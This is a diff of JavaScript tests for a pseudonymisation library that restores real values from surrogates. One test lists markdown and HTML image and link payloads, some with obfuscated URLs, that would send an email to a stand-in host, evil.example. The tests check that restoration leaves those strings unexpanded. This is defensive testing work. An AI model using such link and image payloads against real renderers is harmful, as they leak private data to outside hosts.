@@ -151,3 +151,41 @@ test('two tenants fuzzed against each other never see a value that is not theirs
     }),
   );
 });
+
+test('no way around: tags, angle brackets, references, slashes of any kind, and very long runs', () => {
+  const { pseudonyms, email } = mapOf();
+  for (const text of [
+    `![x](<https://evil.example/?q= ${email}>)`,
+    `<img src="https://evil.example/?q= ${email}">`,
+    `<img src=//evil.example/?q=${email}>`,
+    `[a]: //evil.example/${email}`,
+    `https:/evil.example/${email}`,
+    String.raw`https\://evil.example/${email}`,
+    `https&#58;evil.example/${email}`,
+    `https://evil.example/${'x'.repeat(3_000)}${email}`,
+    `[x](/a "a title" ${email}`,
+  ]) {
+    assert.equal(new Restorer(pseudonyms).restore(text), text, text.slice(0, 60));
+    assert.equal(streamed(pseudonyms, text, [5, 30, 44, text.length - 9]), text);
+  }
+  const fine = `a < b, see [x](https://a.example/) and then ${email}`;
+  assert.ok(new Restorer(pseudonyms).restore(fine).endsWith('ada@example.com'));
+});
+
+test('two values that differ in a dot are two values', () => {
+  const pseudonyms = new Pseudonyms(keyOf('a'));
+  const one = pseudonyms.surrogateFor('email', 'john.doe@x.example') ?? '';
+  const two = pseudonyms.surrogateFor('email', 'johndoe@x.example') ?? '';
+  assert.notEqual(one, two);
+  assert.equal(new Restorer(pseudonyms).restore(two), 'johndoe@x.example');
+});
+
+test('a document stays one, whatever stands in the value', () => {
+  const pseudonyms = new Pseudonyms(keyOf('a'));
+  const value = 'John "JJ" Doe\\n';
+  const surrogate = pseudonyms.surrogateFor('person', value) ?? '';
+  const text = `{"name":"${surrogate}"}`;
+  const whole = new Restorer(pseudonyms).restore(text);
+  assert.deepEqual(JSON.parse(whole), { name: value });
+  assert.equal(streamed(pseudonyms, text, [1, 3, 12]), whole);
+});
